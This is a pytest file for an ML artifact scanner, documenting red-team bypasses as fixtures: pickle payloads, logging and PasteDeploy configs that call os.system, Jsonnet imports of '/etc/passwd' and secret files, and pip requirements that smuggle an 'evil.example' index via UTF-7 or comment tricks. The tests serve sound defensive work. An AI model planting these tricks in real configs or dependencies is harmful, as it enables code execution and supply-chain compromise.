"""Bypasses found by the session-8 red team (round 5): session 7's "still open" list, then this round's own ideas.
Each sample is built here from text or bytes; nothing is loaded. Where a loader was run on a sample (in a throwaway
interpreter under /tmp, ``os.getcwd`` as the payload) the test says so.

- Text configs a reader could not parse gave no finding at all: a logging INI or a confection config that
  ``configparser`` rejects, a ``fileConfig`` expression this Python cannot parse (3.12's PEP 701 f-strings), an
  ``MLmodel`` or a ``.yaml`` naming ``_target_`` that no parser reads. Now medium (high for an unparsable
  expression with a call in it).
- A gzip/bz2/xz-wrapped object ``.npy``: ``np.load(fsspec.open(p, compression="infer").open(), allow_pickle=True)``
  ran ``os.getcwd``; it was "compressed data that is not a pickle" (safe). The stream is now scanned decompressed.
- PasteDeploy INI files (``use = call:os:getcwd``, ``paste.app_factory = os:getcwd``: PasteDeploy 3.1 imported
  and called it); ``fileConfig`` section headers with text after the ``]`` (``[handler_h] ;note``: fileConfig ran
  the ``args``, the scanner called the file text).
- pip's requirement-file reading: a backslash at the end of a comment line does not join the next line (pip ran
  with the next line's ``--extra-index-url``); a PEP 263 coding cookie (``# coding: utf-7``) makes pip decode
  ``+AC0-+AC0-extra-index-url`` as ``--extra-index-url``; a requirements file under another name over the sniff
  size. All three: pip's own ``parse_requirements`` took the attacker index here.
- Named requirements one typo from a popular project (``reqeusts``) are medium with the likely intended name.
"""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import struct
from pathlib import Path

import pytest
from scan_helpers import scan_named

from mlsecure.artifacts.scan import Verdict, scan_file
from mlsecure.artifacts.scan import engine as scan_engine
from mlsecure.artifacts.scan.interface import Limits
from mlsecure.findings import Severity

PAYLOAD = b"\x80\x02cos\ngetcwd\nq\x00)Rq\x01."  # os.getcwd(): harmless, but any callable fits here


def _npy(body: bytes, descr: str = "'|O'") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _logging_ini(handler: str, header_tail: str = "") -> str:
    return (f"[loggers]{header_tail}\nkeys=root\n[handlers]{header_tail}\nkeys=h\n[formatters]{header_tail}\nkeys=\n"
            f"[logger_root]{header_tail}\nlevel=INFO\nhandlers=h\n[handler_h]{header_tail}\n{handler}\n")


# --- 1a: what a reader could not parse is a finding ---------------------------------------------------------------

UNPARSABLE = {
    # configparser raises DuplicateSectionError (fileConfig too, on this Python): not verified
    "logging-duplicate-section": ("logging.ini", _logging_ini("class=os.system\nargs=('id',)") + "[handler_h]\n",
                                  Severity.MEDIUM),
    # a stray "= value" line is a ParsingError for configparser and confection alike: the references are unchecked
    "confection-parse-error": ("config.cfg", '[nlp]\nlang = "en"\n[components.x]\n@architectures = "evil.arch.v1"\n'
                               "= stray\n", Severity.MEDIUM),
    # PEP 701 (Python 3.12) reads nested same quotes in an f-string; 3.11 raises SyntaxError: a newer loader runs it
    "fileconfig-pep701-args": ("logging.conf", _logging_ini(
        "class=StreamHandler\nargs=(f\"{__import__(\"os\").getcwd()}\",)"), Severity.HIGH),
    # configparser (allow_no_value, as confection builds it) raises AttributeError on a continuation line after a key
    # without a value: a parser crash, not a finding (found by fuzzing this round's readers)
    "confection-continuation-after-bare-key": ("config.cfg", '[nlp]\nlang = "en"\n[components.x]\n@architectures\n'
                                               '  "evil.arch.v1"\n', Severity.MEDIUM),
    "mlmodel-not-yaml": ("MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n  bad: [\n",
                         Severity.MEDIUM),
    "hydra-yaml-not-parsed": ("config.yaml", "_target_: os.system\n  command: [id\n: - x\n", Severity.MEDIUM),
}


@pytest.mark.parametrize("case", sorted(UNPARSABLE))
def test_unparsable_configs_are_not_verified(tmp_path: Path, case: str) -> None:
    name, text, severity = UNPARSABLE[case]
    verdict, worst, titles = scan_named(tmp_path, name, text)
    assert worst == severity, titles
    assert verdict is not Verdict.SAFE


def test_indented_registry_key_is_read(tmp_path: Path) -> None:
    """configparser strips a line before it reads the key: ``  @architectures`` is a registry reference (low)."""
    _verdict, worst, titles = scan_named(tmp_path, "config.cfg", '[nlp]\nlang = "en"\n[components.x]\n'
                                         '  @architectures = "evil_pkg.arch.v1"\n')
    assert worst is Severity.LOW
    assert any("evil_pkg.arch.v1" in t for t in titles), titles


UNPARSABLE_CONTROLS = {
    "ini-without-logging-sections": ("setup.cfg", "[metadata]\nname = x\n[metadata]\nversion = 1\n"),
    "readme-mentioning-target": ("README.md", "Use `_target_: my.Model` in\n  your: [config\n: - x\n"),
    "fileconfig-empty-args": ("logging.ini", _logging_ini("class=StreamHandler\nargs=")),
    "spacy-config": ("config.cfg", '[nlp]\nlang = "en"\n[components.tok2vec.model]\n'
                     '@architectures = "spacy.Tok2Vec.v2"\n'),
}


@pytest.mark.parametrize("case", sorted(UNPARSABLE_CONTROLS))
def test_unparsable_controls_stay_below_medium(tmp_path: Path, case: str) -> None:
    name, text = UNPARSABLE_CONTROLS[case]
    verdict, worst, titles = scan_named(tmp_path, name, text)
    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles


def test_fileconfig_section_headers_with_trailing_text(tmp_path: Path) -> None:
    """configparser's SECTCRE is ``\\[(?P<header>.+)\\]`` at the start of the line: ``[handler_h] ;x`` is a section
    (checked: fileConfig evaluated the args under Python 3.11)."""
    text = _logging_ini("class=StreamHandler\nargs=(__import__('os').getcwd(),)", header_tail=" ;x")
    verdict, worst, titles = scan_named(tmp_path, "logging.ini", text)
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles


INI_LINE_ENDS = {
    # configparser reads a file opened in text mode: a lone \r ends a line there; it strips each line with
    # str.strip(), so a form feed or a no-break space before a comment is a blank line (checked: fileConfig ran the
    # args of all three under Python 3.11)
    "cr-line-ends": lambda text: text.replace("\n", "\r"),
    "form-feed-first-line": lambda text: "\x0c\n" + text,
    "nbsp-before-comment": lambda text: "\u00a0# logging for the server\n" + text,
}


@pytest.mark.parametrize("case", sorted(INI_LINE_ENDS))
def test_ini_read_as_configparser_reads_a_file(tmp_path: Path, case: str) -> None:
    text = INI_LINE_ENDS[case](_logging_ini("class=StreamHandler\nargs=(__import__('os').getcwd(),)"))
    verdict, worst, titles = scan_named(tmp_path, "logging.ini", text)
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
    paste = INI_LINE_ENDS[case]("[app:main]\nuse = call:os:system\n")
    verdict, worst, titles = scan_named(tmp_path, "production.ini", paste)
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles


JSONNET_COMMENTS = {
    "block": '{ secret: importstr /* the shared key */ "../../secrets.json" }\n',
    "line": '{ base: import // shared defaults\n  "../../outside/base.libsonnet" }\n',
    "hash": "{ pw: importstr # system file\n  '/etc/passwd' }\n",
}


@pytest.mark.parametrize("case", sorted(JSONNET_COMMENTS))
def test_jsonnet_import_with_a_comment_before_its_path(tmp_path: Path, case: str) -> None:
    """Jsonnet allows a comment between any two tokens (its lexer skips them like blanks); the regex wanted blanks."""
    verdict, worst, titles = scan_named(tmp_path, "config.jsonnet", JSONNET_COMMENTS[case])
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles


def test_jsonnet_comment_markers_inside_strings_stay_strings(tmp_path: Path) -> None:
    text = '{ url: "http://host/a#b", note: \'/* not a comment\', base: import "base.libsonnet" }\n'
    verdict, worst, titles = scan_named(tmp_path, "config.jsonnet", text)
    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles


def _onnx_json_snake_case(domain: str = "", location: str = "") -> str:
    """An ONNX model as protobuf JSON with the proto field names (``MessageToDict(preserving_proto_field_name=True)``):
    ``json_format.Parse`` reads both spellings (checked: onnx 1.23's ``onnx.load("model.json")`` loaded it)."""
    node = {"input": ["x"], "output": ["y"], "op_type": "Relu", "domain": domain}
    graph: dict[str, object] = {"node": [node], "name": "g"}
    if location:
        graph["initializer"] = [{"name": "w", "dims": ["1"], "data_type": 1, "data_location": "EXTERNAL",
                                 "external_data": [{"key": "location", "value": location}]}]
    return json.dumps({"ir_version": "9", "graph": graph,
                       "opset_import": [{"domain": "", "version": "17"}, {"domain": domain, "version": "1"}]})


def test_onnx_json_with_proto_field_names(tmp_path: Path) -> None:
    _v, worst, titles = scan_named(tmp_path, "model.json", _onnx_json_snake_case(domain="evil.ops"))
    assert worst is Severity.MEDIUM and any("evil.ops" in t for t in titles), titles
    _v, worst, titles = scan_named(tmp_path, "m2/model.json", _onnx_json_snake_case(location="../outside/secret.bin"))
    assert worst is Severity.HIGH, titles


def test_onnx_textproto_without_ir_version(tmp_path: Path) -> None:
    """``onnx.load("model.textproto")`` reads a model without ``ir_version`` (checked: onnx 1.23 loaded one whose node
    has a custom domain); the check wanted that field."""
    custom = 'graph {\n  node { input: "x" output: "y" op_type: "Relu" domain: "evil.ops" }\n  name: "g"\n}\n' \
             'opset_import { domain: "evil.ops" version: 1 }\n'
    _v, worst, titles = scan_named(tmp_path, "model.textproto", custom)
    assert worst is Severity.MEDIUM and any("evil.ops" in t for t in titles), titles
    external = ('graph {\n  initializer { name: "w" data_type: 1 dims: 1 data_location: EXTERNAL\n'
                '    external_data { key: "location" value: "../outside/secret.bin" } }\n}\n')
    _v, worst, titles = scan_named(tmp_path, "m2/model.textproto", external)
    assert worst is Severity.HIGH, titles


# --- 1b: compressed streams that are not pickles ------------------------------------------------------------------

COMPRESSORS = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}


@pytest.mark.parametrize("compression", sorted(COMPRESSORS))
def test_compressed_object_npy_is_scanned(tmp_path: Path, compression: str) -> None:
    data = COMPRESSORS[compression](_npy(PAYLOAD))
    verdict, worst, titles = scan_named(tmp_path, f"weights.npy.{compression[:2]}", data)
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
    assert any("getcwd" in t for t in titles), titles


def test_compressed_controls_stay_safe(tmp_path: Path) -> None:
    numeric = gzip.compress(_npy(struct.pack("<d", 1.5), "'<f8'"))
    labels = gzip.compress(b"cat\ndog\nbird\n" * 100)
    for name, data in (("w.npy.gz", numeric), ("labels.txt.gz", labels)):
        verdict, worst, titles = scan_named(tmp_path, name, data)
        assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, (name, titles)


def test_compressed_pickle_still_read_as_pickle(tmp_path: Path) -> None:
    verdict, worst, titles = scan_named(tmp_path, "model.pkl.gz", gzip.compress(PAYLOAD))
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles


def test_compressed_bomb_is_not_verified(tmp_path: Path) -> None:
    """The archive limits apply: 8 MiB of zeros from a few kB is a bomb under a 1 MiB floor (fail closed)."""
    path = tmp_path / "zeros.npy.gz"
    path.write_bytes(gzip.compress(_npy(b"\x00" * (8 << 20), "'<f8'")))
    result = scan_file(path, limits=Limits(bomb_min_bytes=1 << 20))
    assert result.max_severity is Severity.MEDIUM, [i.title for i in result.issues]
    assert any("bomb" in i.title for i in result.issues)


# --- 1c: PasteDeploy ----------------------------------------------------------------------------------------------

PASTE = {
    "use-call-system": ("[app:main]\nuse = call:os:system\n", Severity.CRITICAL),
    "use-call-upper-key": ("[app:main]\nUSE = CALL:os:system\n", Severity.CRITICAL),  # option names lower-cased
    "app-factory": ("[app:main]\npaste.app_factory = subprocess:getoutput\n", Severity.CRITICAL),
    "pipeline-call": ("[pipeline:main]\npipeline = call:os:system app\n[app:app]\nuse = egg:MyApp\n",
                      Severity.CRITICAL),
    "filter-with-call": ("[app:main]\nuse = egg:MyApp\nfilter-with = call:os:system\n", Severity.CRITICAL),
    "interpolated-module": ("[DEFAULT]\nmod = os\n[app:main]\nuse = call:%(mod)s:system\n", Severity.CRITICAL),
    "unknown-factory": ("[app:main]\nuse = call:shipped_app.wsgi:make_app\n", Severity.MEDIUM),
    # Paste's urlmap maps paths to app names, resolved like ``use`` (checked: ``call:os:getcwd`` imported ``os``)
    "urlmap-call": ("[composite:main]\nuse = egg:Paste#urlmap\n/ = call:os:system\n/api = api\n", Severity.CRITICAL),
    "config-outside": ("[app:main]\nuse = config:%(here)s/../../other.ini#main\n", Severity.HIGH),
    "config-absolute": ("[composite:main]\nuse = config:/etc/app/evil.ini\n", Severity.HIGH),
}


@pytest.mark.parametrize("case", sorted(PASTE))
def test_paste_deploy_calls_are_judged(tmp_path: Path, case: str) -> None:
    text, severity = PASTE[case]
    verdict, worst, titles = scan_named(tmp_path, "production.ini", text)
    assert worst == severity, titles
    assert verdict is not Verdict.SAFE


def test_paste_deploy_pyramid_scaffold_stays_safe(tmp_path: Path) -> None:
    """Pyramid's cookiecutter development.ini: an installed app's entry point, waitress, logging to stderr."""
    text = ("[app:main]\nuse = egg:myproject\npyramid.reload_templates = true\npyramid.includes =\n"
            "    pyramid_debugtoolbar\nsqlalchemy.url = sqlite:///%(here)s/myproject.sqlite\n\n"
            "[server:main]\nuse = egg:waitress#main\nlisten = localhost:6543\n\n"
            "[loggers]\nkeys = root, myproject\n\n[handlers]\nkeys = console\n\n[formatters]\nkeys = generic\n\n"
            "[logger_root]\nlevel = INFO\nhandlers = console\n\n[logger_myproject]\nlevel = DEBUG\nhandlers =\n"
            "qualname = myproject\n\n[handler_console]\nclass = StreamHandler\nargs = (sys.stderr,)\nlevel = NOTSET\n"
            "formatter = generic\n\n[formatter_generic]\n"
            "format = %(asctime)s %(levelname)-5.5s [%(name)s] %(message)s\n")
    verdict, worst, titles = scan_named(tmp_path, "development.ini", text)
    assert verdict is Verdict.SAFE and worst is Severity.LOW, titles
    assert sum("egg" in t or "entry point" in t for t in titles) == 2, titles


def test_paste_deploy_unparsable_is_not_verified(tmp_path: Path) -> None:
    verdict, worst, titles = scan_named(tmp_path, "production.ini", "[app:main]\nuse = egg:x\n= stray\n")
    assert worst is Severity.MEDIUM and verdict is Verdict.SUSPICIOUS, titles


# --- pip's reading of requirements files ----------------------------------------------------------------------------

PIP = {
    "comment-backslash": "numpy==1.26.4\n# pinned for the GPU build \\\n--extra-index-url http://evil.example/simple\n",
    "coding-utf7": "# -*- coding: utf-7 -*-\nnumpy==1.26.4\n+AC0-+AC0-extra-index-url http://evil.example/simple\n",
    "coding-second-line": "numpy==1.26.4\n# vim: set fileencoding=utf-7 :\n+AC0-i http://evil.example/simple\n",
}


@pytest.mark.parametrize("case", sorted(PIP))
def test_requirements_read_as_pip_reads_them(tmp_path: Path, case: str) -> None:
    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", PIP[case])
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles
    assert any("evil.example" in t for t in titles), titles


def test_requirement_continuation_still_joined(tmp_path: Path) -> None:
    """A backslash at the end of a requirement line joins it to the next, as in pip (``--hash`` continuations)."""
    text = "numpy==1.26.4 \\\n    --hash=sha256:" + "a" * 64 + "\ntorch==2.1.0\n"
    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", text)
    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles


def test_large_requirements_under_another_name(tmp_path: Path) -> None:
    """``-r deps.txt`` of 1.1 MB, the option last (pip followed it); a label file of the same size stays safe."""
    deps = "numpy==1.26.4\n" * 80_000 + "--extra-index-url http://evil.example/simple\n"
    verdict, worst, titles = scan_named(tmp_path, "deps.txt", deps)
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles
    verdict, worst, titles = scan_named(tmp_path, "labels.txt", "cat\ndog\n" * 80_000 + "- bird\n")
    assert verdict is Verdict.SAFE, titles


def test_large_config_text_is_not_verified(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Over the text size parsed, a file named as a config or environment file fails closed (medium); other large
    text stays info. The limit is lowered here to keep the test small."""
    monkeypatch.setattr(scan_engine, "MAX_TEXT_BYTES", 1024)
    for name in ("config.yaml", "requirements.txt", "logging.ini", "MLmodel"):
        verdict, worst, titles = scan_named(tmp_path, name, "a: 1\n" * 400)
        assert worst is Severity.MEDIUM, (name, titles)
    verdict, worst, titles = scan_named(tmp_path, "corpus.txt", "a: 1\n" * 400)
    assert verdict is Verdict.SAFE and worst is Severity.INFO, titles


# --- 1d: a VCS requirement pinned to a full commit stays high ------------------------------------------------------

def test_pinned_commit_stays_high_with_the_reason(tmp_path: Path) -> None:
    """Kept high (decision): GitHub serves a fork's commits through the upstream URL, so a SHA under
    ``github.com/huggingface/...`` may be an imposter commit; the finding says to pin a release instead."""
    sha = "3f9a1c0e6d7b8a9c0d1e2f3a4b5c6d7e8f9a0b1c"
    verdict, worst, titles = scan_named(tmp_path, "requirements.txt",
                                        f"transformers @ git+https://github.com/huggingface/transformers@{sha}\n")
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles
    assert any("pinned commit" in t and "release" in t for t in titles), titles
    _v, worst, titles = scan_named(tmp_path, "r2/requirements.txt", "git+https://github.com/org/x@v1.0#egg=x\n")
    assert worst is Severity.HIGH and not any("pinned commit" in t for t in titles), titles


# --- 1e: typosquats -----------------------------------------------------------------------------------------------

SQUATS = {"reqeusts==2.31.0": "requests", "python3-dateutil": "python-dateutil", "colourama>=0.4": "colorama",
          "urlib3": "urllib3", "nunpy": "numpy", "scikitlearn": "scikit-learn", "matplotlb ; python_version>'3'":
          "matplotlib", "tensorfow[and-cuda]==2.15": "tensorflow", "jeIlyfish": "jellyfish",
          "djanga==4.2 --hash=sha256:" + "a" * 64: "django"}


@pytest.mark.parametrize("line", sorted(SQUATS))
def test_typosquat_requirements_are_medium(tmp_path: Path, line: str) -> None:
    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", f"numpy==1.26.4\n{line}\n")
    assert (verdict, worst) == (Verdict.SUSPICIOUS, Severity.MEDIUM), titles
    assert any(f"did you mean {SQUATS[line]!r}" in t for t in titles), titles


def test_popular_and_short_names_pass(tmp_path: Path) -> None:
    text = ("numpy==1.26.4\nScikit_Learn>=1.3\ntorch==2.1.0 ; python_version > '3.8'\ntransformers[torch]\n"
            "python-dateutil\nsix\nPyYAML\nsentence-transformers\nsafetensors\nrequests[socks]~=2.31\n")
    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", text)
    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles


def test_typosquat_names_in_conda_pip_list(tmp_path: Path) -> None:
    text = "name: env\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - pip:\n    - reqeusts==2.31.0\n"
    _verdict, worst, titles = scan_named(tmp_path, "conda.yaml", text)
    assert worst is Severity.MEDIUM and any("'requests'" in t for t in titles), titles


def test_edit_distance_reference() -> None:
    """``_one_edit`` against a plain dynamic-programming optimal-string-alignment distance on random pairs."""
    import random

    from mlsecure.artifacts.scan.typosquats import _one_edit, likely_intended, normalise  # new in session 8

    def osa(a: str, b: str) -> int:
        d = [[0] * (len(b) + 1) for _ in range(len(a) + 1)]
        for i in range(len(a) + 1):
            d[i][0] = i
        for j in range(len(b) + 1):
            d[0][j] = j
        for i in range(1, len(a) + 1):
            for j in range(1, len(b) + 1):
                d[i][j] = min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] != b[j - 1]))
                if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                    d[i][j] = min(d[i][j], d[i - 2][j - 2] + 1)
        return d[len(a)][len(b)]

    rng = random.Random(8)
    for _ in range(3000):
        a = "".join(rng.choice("abc-") for _ in range(rng.randint(0, 6)))
        b = "".join(rng.choice("abc-") for _ in range(rng.randint(0, 6)))
        assert _one_edit(a, b) == (osa(a, b) == 1), (a, b)
    assert normalise("Scikit__Learn.x") == "scikit-learn-x"
    assert likely_intended("requests") is None and likely_intended("six") is None



# --- issue caps: the first N issues were kept, so N mild ones hid a worse one after them ----------------------------

def _skops_schema() -> str:
    """A skops schema: 200 distinct allowlisted classes, then (walked last) ``os.system``."""
    from mlsecure.artifacts.scan.allowlist import ALLOWLIST

    harmless = [{"__loader__": "ObjectNode", "__module__": m, "__class__": n, "content": {}}
                for m, n in list(ALLOWLIST)[:200]]
    evil = {"__loader__": "ObjectNode", "__module__": "os", "__class__": "system", "content": {}}
    return json.dumps({"__loader__": "ObjectNode", "__module__": "sklearn.pipeline", "__class__": "Pipeline",
                       "content": {"steps": [evil, *harmless]}, "protocol": 2, "_skops_version": "0.10"})


CAPPED = {
    "requirements": ("requirements.txt", "".join(f"./pkgs/p{i}\n" for i in range(50))
                     + "--extra-index-url http://evil.example/simple\n", Severity.HIGH),
    "logging-ini": ("logging.ini", "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\n"
                    "level=INFO\nhandlers=h\n" + "".join(f"[handler_u{i}]\nclass=mypkg.H{i}\n" for i in range(50))
                    + "[handler_h]\nclass=os.system\nargs=('id',)\n", Severity.CRITICAL),
    "dict-config": ("log.json", json.dumps({"version": 1, "handlers": {  # the walk pops the last pushed first
        "a": {"()": "os.system", "command": "id"}, **{f"u{i}": {"()": f"mypkg.make{i}"} for i in range(50)}}}),
        Severity.CRITICAL),
    "paste": ("production.ini", "".join(f"[app:a{i}]\nuse = egg:A{i}\n" for i in range(50))
              + "[app:main]\nuse = call:os:system\n", Severity.CRITICAL),
    "jsonnet": ("config.jsonnet", "{\n" + "".join(f"  a{i}: import |||\n    x\n|||,\n" for i in range(50))
                + '  z: importstr "../../secrets.json",\n}\n', Severity.HIGH),
    "interpolations": ("config.yaml", "cmd: '" + "${my.res:1} " * 20 + "${eval:__import__(\"os\").system(\"id\")}'\n",
                       Severity.HIGH),
    "skops-schema": ("schema.json", _skops_schema(), Severity.CRITICAL),
}


@pytest.mark.parametrize("case", sorted(CAPPED))
def test_issue_caps_keep_the_worst(tmp_path: Path, case: str) -> None:
    name, text, severity = CAPPED[case]
    _verdict, worst, titles = scan_named(tmp_path, name, text)
    assert worst == severity, titles[-3:]


def test_compressed_text_keeps_dangerous_names_only(tmp_path: Path) -> None:
    """No config loader decompresses by itself: in compressed text a "not verified" medium is low (a gzipped botocore
    ``service-2.json`` quoting ``${transfer:UserName}`` in its documentation), a dangerous name keeps its severity."""
    docs = json.dumps({"shapes": {"Policy": {"documentation": "use ${transfer:UserName} in the policy"}}})
    verdict, worst, titles = scan_named(tmp_path, "service-2.json.gz", gzip.compress(docs.encode()))
    assert verdict is Verdict.SAFE and worst is Severity.LOW, titles
    verdict, worst, titles = scan_named(tmp_path, "config.yaml.gz", gzip.compress(b"_target_: os.system\n"))
    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
